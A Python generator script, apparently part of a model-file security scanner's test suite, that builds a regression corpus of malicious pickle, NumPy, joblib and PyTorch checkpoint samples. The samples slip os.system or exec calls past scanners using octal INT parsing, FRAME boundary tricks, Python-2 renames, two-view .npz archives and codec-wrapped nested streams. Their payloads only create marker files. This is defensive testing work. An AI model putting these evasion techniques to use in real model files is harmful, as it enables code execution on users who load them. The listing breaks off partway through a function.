"""Generate the regression corpus of issue 10: samples that run code under their real loader.

Usage: ``python gen_regression.py OUT_DIR [--no-torch] [--only RC,...]``

Each sample targets one of the thirteen root causes of issue 10 (the scanner's model of a
loader differs from the loader), and each payload only creates a marker file whose name
starts with the sample's name: in the directory named by ``TORCHLESS_SCAN_MARKER_DIR``
at load time (shell payloads), or relative to the current directory (payloads that take
a file name: the loader runner runs each sample with the marker directory as its working
directory). TorchScript, AOTInductor and Inductor-cache payloads cannot read the
environment at load time in every case and bake in the directory the variable names at
generation time.

``OUT_DIR/manifest.json``: ``{"samples": [...], "controls": [...]}``. A sample has
``name``, ``rc`` (1-13), ``loader`` (see ``run_regression.py``), ``load`` (path the
loader opens, relative to OUT_DIR), ``scan`` (path to scan), ``technique``, ``expect``
(``dangerous``: code runs through a pickle global, so the verdict must be DANGEROUS or
UNANALYSABLE; ``flagged``: any verdict but CLEAN) and ``clean_load`` (the loader returns
without an exception, so a victim notices nothing). Controls are the unmodified artifacts
the samples were derived from: they must scan CLEAN.

Helpers (pickle assembler, raw zip writer, .npy builder, payload commands) come from
``gen_malicious.py`` beside this file.
"""

from __future__ import annotations

import dataclasses
import gzip
import importlib.util
import io
import json
import lzma
import os
import pickle
import re
import shutil
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

_HERE = os.path.dirname(os.path.abspath(__file__))


def _sibling(name: str) -> Any:
    spec = importlib.util.spec_from_file_location(f"tl_regr_{name}", os.path.join(_HERE, f"{name}.py"))
    mod = importlib.util.module_from_spec(spec)  # type: ignore[arg-type]
    spec.loader.exec_module(mod)  # type: ignore[union-attr]
    return mod


gm = _sibling("gen_malicious")
ENV = gm.ENV
G, S, BY, T, call, pk, inject, sh, py = gm.G, gm.S, gm.BY, gm.T, gm.call, gm.pk, gm.inject, gm.sh, gm.py
zip_members, npy_object = gm.zip_members, gm.npy_object

ROOT_CAUSES = {
    1: "fail-open verdicts (streams the machine refuses or stops on)",
    2: "linear model of FRAME",
    3: "nested payloads followed only when they look like files",
    4: "carriers read by name or pattern (DCP ranges, NumPy headers, TorchScript lexing)",
    5: "loaders that follow links out of the artifact",
    6: "no total work budget",
    7: "partial Python-2 rename tables",
    8: "carrier recognition narrower than the loaders",
    9: "legacy-tar model that stops where torch goes on",
    10: "AOTInductor content not modelled",
    11: "zip end-record selection differing from miniz",
    12: "one zip model for every loader (.npz is read with zipfile)",
    13: "compile caches judged by pickles alone",
}


@dataclasses.dataclass
class Sample:
    name: str
    rc: int
    loader: str
    technique: str
    expect: str = "dangerous"  # or "flagged"
    clean_load: bool = True
    load: str = ""  # defaults to name
    scan: str = ""  # defaults to name
    torch: bool = False
    cc: bool = False  # needs a C/C++ compiler (to build the sample, or when the loader compiles)

    def entry(self) -> dict[str, Any]:
        d = dataclasses.asdict(self)
        d["load"] = self.load or self.name
        d["scan"] = self.scan or self.name
        del d["torch"], d["cc"]
        return d


# -- small builders -------------------------------------------------------------------


def u(s: str) -> bytes:
    """Protocol-0 UNICODE argument (raw-unicode-escape, ASCII here)."""
    return b"V" + s.encode("raw_unicode_escape") + b"\n"


def p0_system(name: str) -> bytes:
    """``os.system(cmd)`` in protocol-0 text opcodes only (ASCII, no binary lengths)."""
    return b"cos\nsystem\n(" + u(sh(name)) + b"tR"


def p0_call(mod: str, fn: str, *args: bytes) -> bytes:
    return b"c" + mod.encode() + b"\n" + fn.encode() + b"\n(" + b"".join(args) + b"tR"


def X(b: bytes) -> bytes:
    """BINUNICODE header + bytes (the bytes must be UTF-8)."""
    return b"X" + struct.pack("<I", len(b)) + b


LEGACY_MAGIC_PICKLE = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)


def frame_cross(payload: bytes, rest: bytes, *, big: bool) -> bytes:
    """A FRAME whose last opcode (BINUNICODE) reads past the frame's end.

    CPython's C unpickler, reading a file object through ``read()`` (``io.BytesIO``, or a
    frame of 8 KiB or more from a buffered file), fetches the string from *after* the
    frame and drops the frame's remaining bytes; a linear walk takes the string from
    inside the frame. The two then run different opcodes: the C unpickler runs
    ``payload`` (ASCII opcodes), the linear walk sees it inside a string.
    """
    k, r = 16, 5
    filler = X(b"f" * 8200) + b"0" if big else b""
    frame = filler + b"X" + struct.pack("<I", k) + b"A" * r
    tail = b"a" * (k - r) + b"X" + struct.pack("<I", len(payload)) + payload + b"00" + rest
    assert all(c < 0x80 for c in payload)
    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + tail


def frame_nested(payload: bytes, rest: bytes, *, big: bool) -> bytes:
    """A FRAME opcode inside a frame whose length runs past the outer frame.

    The C unpickler (read() path) loads the inner frame from the stream after the outer
    frame and drops the outer frame's last bytes (here a BINUNICODE header): it runs
    ``payload``; a linear walk reads ``payload`` as the string's bytes.
    """
    filler = X(b"f" * 8200) + b"0" if big else b""
    tail = payload + b"0" + rest
    frame = filler + b"\x95" + struct.pack("<Q", len(tail)) + b"X" + struct.pack("<I", len(payload))
    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + tail


def npy_header(descr: str, shape: str = "(1,)", version: int = 1) -> bytes:
    header = "{'descr': " + descr + ", 'fortran_order': False, 'shape': " + shape + ", }"
    hl = 4 if version > 1 else 2
    pad = 64 - ((8 + hl + len(header) + 1) % 64)
    h = (header + " " * pad + "\n").encode("latin1")
    return b"\x93NUMPY" + bytes([version, 0]) + (struct.pack("<I", len(h)) if hl == 4 else struct.pack("<H", len(h))) + h


def zip_with(entries: list[tuple[str, bytes]], method: dict[str, int] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for n, d in entries:
            z.writestr(zipfile.ZipInfo(n, (1980, 1, 1, 0, 0, 0)), d, compress_type=(method or {}).get(n, zipfile.ZIP_STORED))
    return buf.getvalue()


def tar_of(
    members: list[tuple[str, bytes]], fmt: int = tarfile.USTAR_FORMAT, extra: Callable[[tarfile.TarFile], None] | None = None
) -> bytes:
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=fmt) as tf:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 0
            tf.addfile(ti, io.BytesIO(data))
        if extra:
            extra(tf)
    return b.getvalue()


# -- the registry -----------------------------------------------------------------------

Builder = Callable[["Ctx", Sample], None]
PLAN: list[tuple[Sample, Builder]] = []


def sample(name: str, rc: int, loader: str, technique: str, **kw: Any) -> Callable[[Builder], Builder]:
    def deco(fn: Builder) -> Builder:
        PLAN.append((Sample(name, rc, loader, technique, **kw), fn))
        return fn

    return deco


class Ctx:
    """Output folder plus lazily built (and shared) torch artifacts."""

    def __init__(self, out: str) -> None:
        self.out = out
        self.controls: list[dict[str, Any]] = []
        self._cache: dict[str, Any] = {}

    def path(self, *parts: str) -> str:
        return os.path.join(self.out, *parts)

    def write(self, name: str, data: bytes) -> str:
        p = self.path(name)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "wb") as f:
            f.write(data)
        return p

    def control(self, name: str, data: bytes | None, loader: str, what: str) -> None:
        if data is not None:
            self.write(name, data)
        if not any(c["name"] == name for c in self.controls):
            self.controls.append({"name": name, "scan": name, "loader": loader, "technique": what})

    def once(self, key: str, fn: Callable[[], Any]) -> Any:
        if key not in self._cache:
            self._cache[key] = fn()
        return self._cache[key]

    # torch artifacts ------------------------------------------------------------------
    def clean_zip(self) -> tuple[bytes, list[tuple[str, bytes]], str]:
        def build() -> tuple[bytes, list[tuple[str, bytes]], str]:
            import torch

            buf = io.BytesIO()
            torch.save({"w": torch.arange(6, dtype=torch.float32).reshape(2, 3), "b": torch.zeros(2)}, buf)
            data = buf.getvalue()
            members = zip_members(data)
            return data, members, members[0][0].split("/")[0]

        return self.once("clean_zip", build)

    def torch_zip(self, fname: str, data_pkl: bytes, *, extra: dict[str, bytes] | None = None) -> bytes:
        """The clean checkpoint with ``data.pkl`` replaced (torch's own layout and alignment)."""
        from torchless.container.zip import TorchZipWriter

        _d, members, prefix = self.clean_zip()
        p = self.path(fname)
        w = TorchZipWriter(p, prefix=prefix)
        for name, data in members:
            rel = name.split("/", 1)[1]
            w.write(rel, data_pkl if rel == "data.pkl" else data)
        for rel, data in (extra or {}).items():
            w.write(rel, data)
        w.close()
        with open(p, "rb") as f:
            return f.read()

    def clean_data_pkl(self) -> bytes:
        _d, members, prefix = self.clean_zip()
        return dict(members)[f"{prefix}/data.pkl"]

    def pt2_clean(self) -> bytes:
        def build() -> bytes:
            import torch

            class M(torch.nn.Module):
                def __init__(self) -> None:
                    super().__init__()
                    self.l = torch.nn.Linear(3, 2)

                def forward(self, x):  # type: ignore[no-untyped-def]
                    return self.l(x)

            torch.manual_seed(0)
            ep = torch.export.export(M(), (torch.randn(1, 3),))
            buf = io.BytesIO()
            torch.export.save(ep, buf)
            return buf.getvalue()

        return self.once("pt2", build)

    def rewrite_zip(
        self, fname: str, base: bytes, replace: Callable[[str, bytes], bytes | None], extra: dict[str, bytes] | None = None
    ) -> bytes:
        """``base`` (a torch-written zip) rewritten member by member with torch's layout."""
        from torchless.container.zip import TorchZipWriter

        members = zip_members(base)
        prefix = members[0][0].split("/")[0]
        p = self.path(fname)
        w = TorchZipWriter(p, prefix=prefix)
        for name, data in members:
            rel = name.split("/", 1)[1]
            new = replace(rel, data)
            if new is not None:
                w.write(rel, new)
        for rel, data in (extra or {}).items():
            w.write(rel, data)
        w.close()
        with open(p, "rb") as f:
            return f.read()

    def legacy_stream(self) -> bytes:
        def build() -> bytes:
            import torch

            b = io.BytesIO()
            torch.save(torch.zeros(2), b, _use_new_zipfile_serialization=False)
            return b.getvalue()

        return self.once("legacy", build)


# ======================================================================================
# RC1: fail-open verdicts
# ======================================================================================
# CPython's load_int parses INT with C strtol(base 0) first: "010" is octal 8, "-010" is
# -8, " 010" skips the blank; Python's int(x, 0) (the pickle machine) refuses all three.
# A stream the machine cannot run from byte 0 was treated as "not a pickle".


def _octal_then(payload: bytes, form: bytes = b"010") -> bytes:
    return b"I" + form + b"\n0" + payload


@sample("f01_int_octal.pkl", 1, "pickle", "INT '010' (strtol octal) at byte 0, refused by int(x, 0); os.system follows")
def _f01(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, _octal_then(p0_system(s.name) + b"0N."))


@sample("f02_int_signed_octal.bin", 1, "pickle", "INT '-010' at byte 0 (signed octal), then a protocol-2 payload")
def _f02(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, _octal_then(b"\x80\x02" + gm.os_system(s.name) + b"0}.", b"-010"))


@sample("f03_int_blank_octal.data", 1, "pickle", "INT ' 0777' (leading blank, octal) at byte 0, then exec of Python source")
def _f03(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, _octal_then(p0_call("builtins", "exec", u(py(s.name))) + b"0N.", b" 0777"))


@sample(
    "f04_int_octal_gzip.pkl.gz",
    1,
    "gzip",
    "gzip-compressed pickle that starts with INT '010' (machine refuses, C unpickler accepts)",
)
def _f04(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, gzip.compress(_octal_then(p0_system(s.name) + b"0N."), mtime=0))


@sample("f05_int_octal_npy.npy", 1, "numpy", ".npy object array whose pickle starts with INT '010'")
def _f05(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, npy_object(_octal_then(p0_system(s.name) + b"0") + b"N."))


@sample("f06_int_octal_legacy.pt", 1, "torch", "legacy torch stream whose magic-number pickle starts with INT '010'", torch=True)
def _f06(ctx: Ctx, s: Sample) -> None:
    legacy = ctx.legacy_stream()
    n = len(LEGACY_MAGIC_PICKLE)
    assert legacy[:n] == LEGACY_MAGIC_PICKLE
    ctx.write(s.name, _octal_then(p0_system(s.name) + b"0") + legacy)


@sample(
    "f07_int_octal_zip.pt", 1, "torch", "torch zip whose data.pkl starts with INT '010' (then PROTO 2 mid-stream)", torch=True
)
def _f07(ctx: Ctx, s: Sample) -> None:
    ctx.torch_zip(s.name, _octal_then(p0_system(s.name) + b"0") + ctx.clean_data_pkl())


@sample(
    "f08_ext_registry.pkl",
    1,
    "pickle",
    "copy_reg.add_extension registers os.system under code 0xc8; EXT1 0xc8 names it (the machine's registry stays empty)",
)
def _f08(ctx: Ctx, s: Sample) -> None:
    reg = p0_call("copy_reg", "add_extension", u("os"), u("system"), b"I200\n") + b"0"
    ctx.write(s.name, reg + b"\x82\xc8(" + u(sh(s.name)) + b"tR0N.")


# ======================================================================================
# RC2: FRAME
# ======================================================================================


@sample(
    "fr01_frame_cross.pt",
    2,
    "torch",
    "data.pkl (read through io.BytesIO) with a BINUNICODE that crosses its FRAME: "
    "the C unpickler drops the frame tail and runs the hidden os.system",
    torch=True,
)
def _fr01(ctx: Ctx, s: Sample) -> None:
    ctx.torch_zip(s.name, frame_cross(p0_system(s.name), ctx.clean_data_pkl()[2:], big=False))


@sample(
    "fr02_frame_nested.pt",
    2,
    "torch",
    "data.pkl with a FRAME inside a FRAME whose length runs past the outer one: the outer frame's tail is dropped",
    torch=True,
)
def _fr02(ctx: Ctx, s: Sample) -> None:
    ctx.torch_zip(s.name, frame_nested(p0_system(s.name), ctx.clean_data_pkl()[2:], big=False))


@sample(
    "fr03_frame_cross_big.pkl",
    2,
    "pickle",
    "pickle.load(file): an 8 KiB+ FRAME is read with read(), so a BINUNICODE crossing its end skips the frame tail",
)
def _fr03(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, frame_cross(p0_system(s.name), b"N.", big=True))


@sample(
    "fr04_frame_nested_big.pkl",
    2,
    "pickle",
    "pickle.load(file): nested FRAME after an 8 KiB+ frame; the inner frame is read from after the outer one",
)
def _fr04(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, frame_nested(p0_system(s.name), b"N.", big=True))


@sample(
    "fr05_frame_cross_npy.npy",
    2,
    "numpy",
    ".npy object array (pickle.load on the open file) with an 8 KiB+ frame crossed by a BINUNICODE",
)
def _fr05(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, npy_object(frame_cross(p0_system(s.name), b"N.", big=True)))


@sample(
    "fr06_frame_nested_legacy.pt",
    2,
    "torch",
    "torch.load(BytesIO-free legacy file): magic-number pickle with a nested FRAME over 8 KiB",
    torch=True,
)
def _fr06(ctx: Ctx, s: Sample) -> None:
    legacy = ctx.legacy_stream()
    n = len(LEGACY_MAGIC_PICKLE)
    ctx.write(s.name, frame_nested(p0_system(s.name), LEGACY_MAGIC_PICKLE[2:], big=True) + legacy[n:])


# ======================================================================================
# RC7: Python-2 renames (fix_imports applies below protocol 3)
# ======================================================================================


@sample("py01_commands_getoutput.pkl", 7, "pickle", "commands.getoutput -> subprocess.getoutput (Python-2 module rename)")
def _py01(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, b"\x80\x02" + p0_call("commands", "getoutput", u(sh(s.name))) + b".")


@sample("py02_commands_getstatusoutput.pkl", 7, "pickle", "commands.getstatusoutput -> subprocess.getstatusoutput, protocol 0")
def _py02(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, p0_call("commands", "getstatusoutput", u(sh(s.name))) + b".")


@sample("py03_cpickle_loads.pkl", 7, "pickle", "cPickle.loads -> pickle.loads of a nested pickle (BINBYTES under PROTO 2)")
def _py03(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, b"\x80\x02" + G("cPickle", "loads") + T(BY(pk(gm.os_system(s.name)))) + b"R.")


@sample("py04_anydbm_open.pkl", 7, "pickle", "anydbm.open -> dbm.open(name, 'c') creates files")
def _py04(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, b"\x80\x02" + p0_call("anydbm", "open", u(s.name), u("c")) + b"0N.")


@sample("py05_dumbdbm_open.pkl", 7, "pickle", "dumbdbm.open -> dbm.dumb.open(name, 'c') creates a file")
def _py05(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, p0_call("dumbdbm", "open", u(s.name), u("c")) + b"0N.")


@sample("py06_urllib_urlretrieve.pkl", 7, "pickle", "urllib.urlretrieve -> urllib.request.urlretrieve copies a URL to a file")
def _py06(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, b"\x80\x02" + p0_call("urllib", "urlretrieve", u("file://" + os.devnull), u(s.name)) + b"0N.")


@sample(
    "py07_commands_zip.pt",
    7,
    "torch",
    "torch zip data.pkl (protocol 2) calling commands.getoutput; torch's find_class applies fix_imports",
    torch=True,
)
def _py07(ctx: Ctx, s: Sample) -> None:
    ctx.torch_zip(s.name, inject(ctx.clean_data_pkl(), p0_call("commands", "getoutput", u(sh(s.name)))))


# ======================================================================================
# RC8: carrier recognition
# ======================================================================================


@sample("c01_lzma_alone_lc0.pkl.lzma", 8, "lzma", "lzma-alone stream with lc=lp=pb=0 (first byte 0x00, not 0x5d)")
def _c01(ctx: Ctx, s: Sample) -> None:
    ctx.write(
        s.name,
        lzma.compress(
            pk(gm.os_system(s.name)), format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "lc": 0, "lp": 0, "pb": 0}]
        ),
    )


@sample(
    "c02_lzma_alone_dict4k.joblib", 8, "joblib", "joblib lzma file (prefix 5d 00) with a 4 KiB dictionary: header 5d 00 10 00 00"
)
def _c02(ctx: Ctx, s: Sample) -> None:
    ctx.write(
        s.name,
        lzma.compress(pk(gm.os_system(s.name)), format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 4096}]),
    )


@sample("c03_zlib_wbits9.pkl.z", 8, "zlib", "zlib stream with a 512-byte window (header 0x18, not 0x78)")
def _c03(ctx: Ctx, s: Sample) -> None:
    c = zlib.compressobj(9, zlib.DEFLATED, 9)
    ctx.write(s.name, c.compress(pk(gm.os_system(s.name))) + c.flush())


@sample(
    "c04_joblib_zfile.pkl",
    8,
    "joblib",
    "joblib <= 0.9 'ZF' z-file (hex length + zlib): joblib.load still reads it (pure-Python unpickler)",
)
def _c04(ctx: Ctx, s: Sample) -> None:
    data = pk(gm.os_system(s.name))
    hdr = b"ZF" + hex(len(data)).encode().ljust(len(hex(2**64)))
    ctx.write(s.name, hdr + zlib.compress(data, 1))


@sample("c05_xz_split_streams.pkl.xz", 8, "xz", "two concatenated xz streams; the payload's opcodes are split across them")
def _c05(ctx: Ctx, s: Sample) -> None:
    data = pk(gm.os_system(s.name))
    ctx.write(s.name, lzma.compress(data[:7], check=lzma.CHECK_NONE) + lzma.compress(data[7:], check=lzma.CHECK_SHA256))


@sample("c06_gzip_members.pkl.gz", 8, "gzip", "two gzip members (gzip.open reads both); the payload starts in the second")
def _c06(ctx: Ctx, s: Sample) -> None:
    data = b"N0" * 4 + p0_system(s.name) + b"."
    ctx.write(s.name, gzip.compress(data[:8], mtime=0) + gzip.compress(data[8:], mtime=0))


# ======================================================================================
# RC12: .npz is read with zipfile
# ======================================================================================


def _lfh(name: str, data: bytes) -> tuple[bytes, bytes]:
    """A stored local header + data, and the central record (offset 0, patched later)."""
    crc, nb = zlib.crc32(data), name.encode()
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0x21, crc, len(data), len(data), len(nb), 0) + nb + data
    central = (
        struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, crc, len(data), len(data), len(nb), 0, 0, 0, 0, 0, 0
        )
        + nb
    )
    return local, central


def _with_offset(central: bytes, off: int) -> bytes:
    rec = bytearray(central)
    struct.pack_into("<I", rec, 42, off)
    return bytes(rec)


def _npz_two_views(miniz_view: list[tuple[str, bytes]], zipfile_view: list[tuple[str, bytes]]) -> bytes:
    """One file, two archives: miniz (offsets as written) sees ``miniz_view``; Python's
    zipfile, which adds ``pos(end record) - cd_size - cd_offset`` to every offset (data
    "prepended" to the archive), sees ``zipfile_view``.

    Layout: [miniz members][padding][CD_m][zipfile members][CD_z][EOCD]. The end record
    gives CD_m's offset and the common size of both directories, so zipfile reads CD_z
    (the bytes just before the end record) and shifts its offsets by ``concat``.
    """
    out = bytearray()
    cd_m = b""
    for name, data in miniz_view:
        local, central = _lfh(name, data)
        cd_m += _with_offset(central, len(out))
        out += local
    z_locals = [_lfh(n, d) for n, d in zipfile_view]
    lz = sum(len(loc) for loc, _c in z_locals)
    out += b"\0" * max(0, lz - len(out) + 64)  # zipfile's archive must start after byte 0
    c = len(out)
    out += cd_m
    cd_z_len = sum(len(cen) for _l, cen in z_locals)
    assert cd_z_len == len(cd_m), "both directories must have the same size (name lengths)"
    cd_z = b""
    for local, central in z_locals:
        off = len(out)
        out += local
        cd_z += central
        cd_z = cd_z[: -len(central)] + _with_offset(central, off)  # real offset for now
    concat = len(out) - c
    fixed = b""
    p = 0
    for _local, central in z_locals:
        rec = cd_z[p : p + len(central)]
        (off,) = struct.unpack_from("<I", rec, 42)
        fixed += _with_offset(rec, off - concat)
        p += len(central)
    out += fixed
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(miniz_view), len(miniz_view), len(fixed), c, 0)
    return bytes(out)


def _benign_npy() -> bytes:
    b = io.BytesIO()
    import numpy as np

    np.save(b, np.arange(4, dtype=np.float32))
    return b.getvalue()


@sample(
    "z01_npz_two_views.npz",
    12,
    "numpy",
    ".npz whose end record points at a benign directory (torch/miniz "
    "view) while zipfile shifts to a second one with an object array",
)
def _z01(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, _npz_two_views([("arr.npy", _benign_npy())], [("arr.npy", npy_object(pk(gm.os_system(s.name))))]))


@sample(
    "z02_npz_two_views_names.npz",
    12,
    "numpy",
    ".npz: miniz sees 'a.npy' (float array), zipfile sees 'b.npy' (object array); np.load reads zipfile's",
)
def _z02(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, _npz_two_views([("a.npy", _benign_npy())], [("b.npy", npy_object(pk(gm.os_system(s.name))))]))


@sample(
    "z03_npz_prepended.npz",
    12,
    "numpy",
    ".npz with a benign archive prepended (a self-extractor layout): zipfile reads the appended one, offsets shifted",
)
def _z03(ctx: Ctx, s: Sample) -> None:
    benign = zip_with([("arr.npy", _benign_npy())])
    evil = zip_with([("arr.npy", npy_object(pk(gm.os_system(s.name))))])
    # strip the benign end record so the file has one EOCD (the evil one, offsets relative)
    ctx.write(s.name, benign[: benign.rindex(b"PK\x05\x06")] + evil)


@sample(
    "z04_npz_two_views_deflate.npz",
    12,
    "numpy",
    ".npz two views, the zipfile view has two members, the object array in the second",
)
def _z04(ctx: Ctx, s: Sample) -> None:
    b = _benign_npy()
    ctx.write(
        s.name, _npz_two_views([("x.npy", b), ("y.npy", b)], [("x.npy", b), ("y.npy", npy_object(pk(gm.os_system(s.name))))])
    )


@sample(
    "z05_npz_member_no_suffix.npz",
    12,
    "numpy",
    ".npz member 'weights.bin' (no .npy suffix): NpzFile still reads any member that starts with the NumPy magic",
)
def _z05(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, zip_with([("weights.bin", npy_object(pk(gm.os_system(s.name))))]))


@sample(
    "z06_npz_bzip2_member.npz", 12, "numpy", ".npz member compressed with bzip2 (method 12): zipfile inflates it, miniz cannot"
)
def _z06(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, zip_with([("arr.npy", npy_object(pk(gm.os_system(s.name))))], {"arr.npy": zipfile.ZIP_BZIP2}))


@sample("z07_npz_lzma_member.npz", 12, "numpy", ".npz member compressed with LZMA (method 14): zipfile inflates it, miniz cannot")
def _z07(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, zip_with([("arr.npy", npy_object(pk(gm.os_system(s.name))))], {"arr.npy": zipfile.ZIP_LZMA}))


# ======================================================================================
# RC4 (NumPy part): headers parsed as NumPy parses them
# ======================================================================================


@sample(
    "h01_npy_descr_object.npy", 4, "numpy", "NumPy header descr 'object' (no capital O): np.dtype('object') has objects -> pickle"
)
def _h01(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, npy_header("'object'") + pk(gm.os_system(s.name)))


@sample("h02_npy_struct_object.npy", 4, "numpy", "structured dtype [('x', 'object')]: a field with objects makes NumPy unpickle")
def _h02(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, npy_header("[('x', 'object')]") + pk(gm.os_system(s.name)))


@sample("h03_npz_descr_object.npz", 4, "numpy", ".npz member with descr 'object'")
def _h03(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, zip_with([("arr.npy", npy_header("'object'") + pk(gm.os_system(s.name)))]))


@sample(
    "h04_npy_v3_object.npy", 4, "numpy", 'NumPy format 3.0 header (4-byte length, UTF-8) with descr "object" in double quotes'
)
def _h04(ctx: Ctx, s: Sample) -> None:
    ctx.write(s.name, npy_header('"object"', version=3) + pk(gm.os_system(s.name)))


# ======================================================================================
# RC3: nested payloads whatever their first bytes
# ======================================================================================


def _legacy_proto0_head(ctx: Ctx, name: str) -> bytes:
    """A legacy torch stream whose magic-number pickle is protocol 0 and runs os.system."""
    legacy = ctx.legacy_stream()
    n = len(LEGACY_MAGIC_PICKLE)
    return p0_system(name) + b"0L" + str(0x1950A86A20F9469CFC6C).encode() + b"L\n." + legacy[n:]


def _lfb(arg: bytes) -> bytes:
    return pk(G("torch.storage", "_load_from_bytes") + T(arg) + b"R", proto=3)


@sample(
    "n01_lfb_protocol0.pt",
    3,
    "torch",
    "torch.storage._load_from_bytes of a legacy stream whose first pickle is protocol 0 text (starts with 'c', not 0x80)",
    torch=True,
)
def _n01(ctx: Ctx, s: Sample) -> None:
    ctx.torch_zip(s.name, _lfb(BY(_legacy_proto0_head(ctx, s.name))))


@sample(
    "n02_lfb_codecs_encode.pt",
    3,
    "torch",
    "_load_from_bytes(_codecs.encode(str, 'latin1')): the nested stream is built at load time, as protocol 2 pickles bytes",
    torch=True,
)
def _n02(ctx: Ctx, s: Sample) -> None:
    legacy = ctx.legacy_stream()
    nested = inject(legacy[: len(LEGACY_MAGIC_PICKLE)], gm.os_system(s.name)) + legacy[len(LEGACY_MAGIC_PICKLE) :]
    built = G("_codecs", "encode") + T(X(nested.decode("latin1").encode("utf-8")), S("latin1")) + b"R"
    ctx.torch_zip(s.name, _lfb(built))


@sample("n03_lfb_bytearray_proto0.pt", 3, "torch", "_load_from_bytes(bytearray(...)) of a protocol-0 legacy stream", torch=True)
def _n03(ctx: Ctx, s: Sample) -> None:
    ctx.torch_zip(s.name, _lfb(G("builtins", "bytearray") + T(BY(_legacy_proto0_head(ctx, s.name))) + b"R"))


@sample(
    "n04_lfb_octal_head.pt",
    3,
    "torch",
    "_load_from_bytes of a legacy stream that starts with INT '010' (no 0x80 byte in front)",
    torch=True,
)
def _n04(ctx: Ctx, s: Sample) -> None:
    legacy = ctx.legacy_stream()
    ctx.torch_zip(s.name, _lfb(BY(_octal_then(p0_system(s.name) + b"0") + legacy)))


@sample(
    "n05_numpy_load_nested.pkl",
    3,
    "pickle",
    "numpy.load(io.BytesIO(npy), None, True): an object-array .npy inside the pickle is unpickled at load time",
)
def _n05(ctx: Ctx, s: Sample) -> None:
    npy = npy_object(pk(gm.os_system(s.name)))
    ctx.write(s.name, pk(call(G("numpy", "load"), call(G("_io", "BytesIO"), BY(npy)), b"N", b"\x88"), proto=3))


@sample(
    "n06_joblib_object_array.joblib",
    3,
    "joblib",
    "joblib.dump of an object array: the array's own pickle is written "
    "inline after the wrapper (NumpyArrayWrapper.read unpickles it)",
)
def _n06(ctx: Ctx, s: Sample) -> None:
    import joblib
    import numpy as np

    class _R:
        def __reduce__(self):  # type: ignore[no-untyped-def]
            return (os.system, (sh(s.name),))

    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = _R(), 1
    joblib.dump({"weights": np.arange(4.0), "meta": arr}, ctx.path(s.name))


@sample(
    "n08_joblib_array_swallows.pkl",
    3,
    "joblib",
    "joblib NumpyArrayWrapper (no alignment padding) whose 5 raw uint8 bytes "
    "are a BINUNICODE header: a walk that reads the array bytes as opcodes "
    "sees the payload as a string, joblib skips them and runs it",
)
def _n08(ctx: Ctx, s: Sample) -> None:
    import numpy as np

    payload = p0_system(s.name)
    arr = b"X" + struct.pack("<I", len(payload))
    dt = pickle.dumps(np.dtype("uint8"), protocol=2)[2:-1]
    state = (
        b"}("
        + S("subclass")
        + G("numpy", "ndarray")
        + S("shape")
        + b"K\x05\x85"
        + S("order")
        + S("C")
        + S("dtype")
        + dt
        + S("allow_mmap")
        + b"\x89u"
    )
    ctx.write(
        s.name, b"\x80\x02" + G("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b" + arr + payload + b"0."
    )


def _legacy_with_payload(ctx: Ctx, name: str) -> bytes:
    legacy = ctx.legacy_stream()
    n = len(LEGACY_MAGIC_PICKLE)
    return inject(legacy[:n], gm.os_system(name)) + legacy[n:]


@sample(
    "n09_lfb_base64_codec.pt",
    3,
    "torch",
    "_load_from_bytes(_codecs.decode(b64, 'base64')): the nested stream only exists after a codec runs",
    torch=True,
)
def _n09(ctx: Ctx, s: Sample) -> None:
    import base64

    ctx.torch_zip(
        s.name, _lfb(G("_codecs", "decode") + T(BY(base64.b64encode(_legacy_with_payload(ctx, s.name))), S("base64")) + b"R")
    )


@sample(
    "n10_lfb_zlib_codec.pt", 3, "torch", "_load_from_bytes(_codecs.decode(data, 'zlib')): a compressed nested stream", torch=True
)
def _n10(ctx: Ctx, s: Sample) -> None:
    ctx.torch_zip(
        s.name, _lfb(G("_codecs", "decode") + T(BY(zlib.compress(_legacy_with_payload(ctx, s.name))), S("zlib")) + b"R")
    )


@sample(
    "n11_lfb_hex_codec.pt",
    3,
    "torch",
    "_load_from_bytes(_codecs.decode(hex text, 'hex')): the nested stream is a hex string in the pickle",
    torch=True,
)
def _n11(ctx: Ctx, s: Sample) -> None:
